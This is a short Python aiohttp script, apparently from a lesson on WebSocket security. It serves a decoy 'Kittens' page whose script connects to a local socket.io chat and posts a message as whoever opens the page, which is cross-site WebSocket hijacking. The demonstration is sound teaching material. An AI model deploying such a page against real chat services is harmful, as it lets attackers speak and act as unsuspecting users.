"""Another site: its page tries to speak in your chat as the user who opens it (see step 9)."""

from aiohttp import web

PAGE = """\
<!doctype html>
<meta charset="utf-8">
<title>Kittens</title>
<h1>Look at these kittens</h1>
<p>Meanwhile this page opens a WebSocket to the chat at 127.0.0.1:CHAT:</p>
<pre id="frames"></pre>
<script>
  const chat = new WebSocket("ws://127.0.0.1:CHAT/socket.io/?EIO=4&transport=websocket");
  const show = (text) => document.querySelector("#frames").append(text, "\\n");
  chat.onmessage = ({ data }) => {
    show(`heard: ${data}`);
    if (data.startsWith("0")) {
      chat.send("40");
    }
    if (data.startsWith("40")) {
      chat.send('42["chat message", "I send all my money to the kittens"]');
    }
  };
  chat.onerror = () => show("the chat does not let this page in");
</script>
"""


async def index(request):
    page = PAGE.replace("CHAT", request.query.get("chat", "3000"))
    return web.Response(text=page, content_type="text/html")


app = web.Application()
app.router.add_get("/", index)

if __name__ == "__main__":
    web.run_app(app, host="127.0.0.1", port=4000)
